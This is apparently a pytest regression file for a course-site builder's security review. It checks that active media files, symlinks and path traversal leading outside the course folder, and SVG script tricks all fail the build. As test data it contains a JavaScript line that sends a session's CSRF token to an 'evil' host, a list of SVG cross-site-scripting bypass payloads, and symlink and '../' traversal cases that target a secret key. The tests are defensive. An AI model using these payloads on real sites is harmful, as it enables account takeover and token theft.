"""What an author puts under media/ cannot run on the site's origin, links never carry files from
outside the course folder into the site, and SVG images cannot smuggle script past the check.
(Security review F2, F3, F12.)"""
import os
from pathlib import Path

import pytest

from brokerlearn.compiler.pipeline import build, check
from brokerlearn.course.svgcheck import unsafe_svg_reason
from brokerlearn.errors import BuildFailed

REPORT_JS = "fetch('/api/session').then(r => r.json()).then(s => location.href = 'http://evil/?' + s.csrf_token)"
LINKED = "---\ntitle: Start\n---\n\n## First part\n\nRead [the report](../../media/report.html).\n"


def errors_of(failure) -> list[tuple[str, int, str]]:
    return [(Path(d.path).name, d.line, d.message) for d in failure.value.diagnostics.errors]


def test_a_hostile_page_and_script_under_media_fail_the_build_with_a_located_message(make_course, tmp_path):
    root = make_course({"media/report.html": "<script src='report.js'></script>",
                        "media/report.js": REPORT_JS, "modules/01-intro/01-start.md": LINKED})
    with pytest.raises(BuildFailed) as failure:
        build(root.parent, tmp_path / "out", show_progress=False)
    errors = errors_of(failure)
    for name, suffix in (("report.html", ".html"), ("report.js", ".js")):
        message = next(m for file, line, m in errors if file == name)
        assert f"media file '{name}' not allowed: '{suffix}' files are not published, as a browser could run them" in message
        assert "put it in a .zip" in message
    assert not (tmp_path / "out" / "site").exists()
    _, diags = check(root.parent)  # `check` refuses what the build refuses
    assert {Path(d.path).name for d in diags.errors} >= {"report.html", "report.js"}


@pytest.mark.parametrize("name", ["page.htm", "page.xhtml", "feed.xml", "module.mjs", "movie.swf", "noext"])
def test_other_active_types_are_refused(make_course, tmp_path, name):
    root = make_course({f"media/{name}": "x"})
    with pytest.raises(BuildFailed) as failure:
        build(root.parent, tmp_path / "out", show_progress=False)
    assert any(file == name and "not allowed" in m for file, _, m in errors_of(failure))


def test_documents_build_and_are_served_as_sandboxed_attachments(make_course, tmp_path):
    root = make_course({"media/sub/notes.txt": "plain notes\n", "media/data.csv": "a,b\n1,2\n"})
    (root / "media/handout.pdf").write_bytes(b"%PDF-1.4\n% a tiny pdf\n%%EOF\n")
    (root / "media/big.pdf").write_bytes(b"%PDF-1.4\n" + b"0" * 300_000)  # past the small-file layer
    out = tmp_path / "out"
    build(root.parent, out, show_progress=False)
    assert (out / "site/mini/media/handout.pdf").read_bytes().startswith(b"%PDF")
    from brokerlearn.server import create_app
    from brokerlearn.server.db import upgrade
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    upgrade(url)
    app = create_app({"DATABASE_URL": url, "TESTING": True}, build_dir=out, instance_path=tmp_path / "inst")
    client = app.test_client()
    for path in ("/mini/media/handout.pdf", "/mini/media/big.pdf", "/mini/media/sub/notes.txt"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.headers["Content-Disposition"] == "attachment", path
        assert response.headers.getlist("Content-Security-Policy")[-1].endswith("; sandbox"), path
        assert len(response.headers.getlist("Content-Security-Policy")) == 1
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    page = client.get("/mini/intro/start/index.html")
    assert "Content-Disposition" not in page.headers and "sandbox" not in page.headers["Content-Security-Policy"]
    app.extensions["brokerlearn_engine"].dispose()


def test_images_are_shown_inline_but_sandboxed(built_example, tmp_path):
    from brokerlearn.server import create_app
    from brokerlearn.server.db import upgrade
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    upgrade(url)
    app = create_app({"DATABASE_URL": url, "TESTING": True}, build_dir=built_example,
                     instance_path=tmp_path / "inst")
    response = app.test_client().get("/example/media/profile-parts.svg")
    assert response.status_code == 200 and response.mimetype == "image/svg+xml"
    assert "Content-Disposition" not in response.headers
    assert response.headers["Content-Security-Policy"].endswith("; sandbox")
    app.extensions["brokerlearn_engine"].dispose()


@pytest.mark.parametrize("place", ["media/notes.txt", "modules/01-intro/01-start.md",
                                   "modules/01-intro/module.yml", "course.yml", "media/secret-folder"])
def test_a_link_leaving_the_course_folder_fails_the_build_and_publishes_nothing(make_course, tmp_path, place):
    outside = tmp_path / "instance"
    outside.mkdir()
    secret = outside / "secret_key"
    secret.write_text("0123456789abcdef-the-secret-key-0123456789abcdef\n")
    root = make_course()
    link = root / place
    link.unlink(missing_ok=True)
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside if place.endswith("folder") else secret)
    out = tmp_path / "out"
    with pytest.raises(BuildFailed) as failure:
        build(root.parent, out, show_progress=False)
    message = next(m for file, line, m in errors_of(failure) if file == link.name)
    assert "symbolic link" in message and "outside the course folder" in message
    published = [p for p in out.rglob("*") if p.is_file()] if out.exists() else []
    assert not any("the-secret-key" in p.read_text(errors="ignore") for p in published)


def test_a_link_inside_the_course_is_published_as_a_copy(make_course, tmp_path):
    root = make_course({"media/real.txt": "inside the course\n"})
    (root / "media/alias.txt").symlink_to("real.txt")
    out = tmp_path / "out"
    build(root.parent, out, show_progress=False)
    published = out / "site/mini/media/alias.txt"
    assert not published.is_symlink() and published.read_text() == "inside the course\n"


def test_the_output_copy_never_follows_a_link(tmp_path):
    """A link that appears after the course was checked (a race) is refused, not read."""
    from brokerlearn.compiler.output import PlannedFile, write_output
    from brokerlearn.errors import UsageError
    secret = tmp_path / "secret_key"
    secret.write_text("the-secret-key")
    link = tmp_path / "notes.txt"
    link.symlink_to(secret)
    with pytest.raises(UsageError, match="symbolic link"):
        write_output(tmp_path / "out", {"site/x/media/notes.txt": PlannedFile("f", copy_from=link)}, {})
    assert not any("the-secret-key" in p.read_text() for p in (tmp_path / "out").rglob("*") if p.is_file())


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize("payload", [
    '<a xlink:href="java&#x09;script:alert(1)"><text>x</text></a>',  # the review's tab.svg
    '<a href="java&#x0A;script:alert(1)"><text>x</text></a>',
    '<a href="&#x20;JaVaScRiPt:alert(1)"><text>x</text></a>',
    '<a href="&#1;javascript:alert(1)"><text>x</text></a>',
    '<a href="vbscript:x"><text>x</text></a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>',
    '<a href="#"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>',  # set.svg
    '<a href="#"><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a>',
    '<a href="#"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
    '<rect width="9" height="9"><set attributeName="onclick" to="alert(1)"/></rect>',
    '<rect width="9" height="9"><animate attributeName="onmouseover" values="alert(1)"/></rect>',
])
def test_svg_check_bypasses_are_refused(tmp_path, payload):
    path = tmp_path / "x.svg"
    path.write_text(SVG.format(payload))
    assert unsafe_svg_reason(path) is not None


@pytest.mark.parametrize("content", [
    '<a href="https://example.org/"><text>x</text></a>', '<a href="#part"><text>x</text></a>',
    '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>', '<use href="#shape"/>',
    '<rect width="9" height="9"><animate attributeName="width" from="9" to="20" dur="1s"/></rect>',
])
def test_ordinary_svg_still_passes(tmp_path, content):
    path = tmp_path / "x.svg"
    path.write_text(SVG.format(content))
    assert unsafe_svg_reason(path) is None


def test_the_reviews_svg_payloads_fail_the_build(make_course, tmp_path):
    root = make_course({
        "media/tab.svg": SVG.format('<a xlink:href="java&#x09;script:window.flag=1"><text>x</text></a>'),
        "media/set.svg": SVG.format('<a href="#"><set attributeName="href" to="javascript:window.flag=1"/>'
                                    '<text>x</text></a>')})
    with pytest.raises(BuildFailed) as failure:
        build(root.parent, tmp_path / "out", show_progress=False)
    names = {file for file, _, m in errors_of(failure) if m.startswith("SVG image not allowed")}
    assert names == {"tab.svg", "set.svg"}


def test_hidden_lesson_links_and_a_profile_outside_are_refused(make_course, tmp_path):
    secret = tmp_path / "secret.yml"
    secret.write_text("id: stolen\ntitle: the-secret-key\nunits: []\n")
    root = make_course({"course.yml": "id: mini\ntitle: Mini\nlanguage: en\nprofile: ../../secret.yml\n"
                                      "modules: [01-intro]\n"})
    with pytest.raises(BuildFailed) as failure:
        build(root.parent, tmp_path / "out", show_progress=False)
    assert any("profile file '../../secret.yml' is outside the course folder" in m for _, _, m in errors_of(failure))
    root = make_course()
    (root / "modules/01-intro/.draft.md").symlink_to(secret)
    with pytest.raises(BuildFailed) as failure:
        build(root.parent, tmp_path / "out2", show_progress=False)
    assert any(file == ".draft.md" and "symbolic link" in m for file, _, m in errors_of(failure))
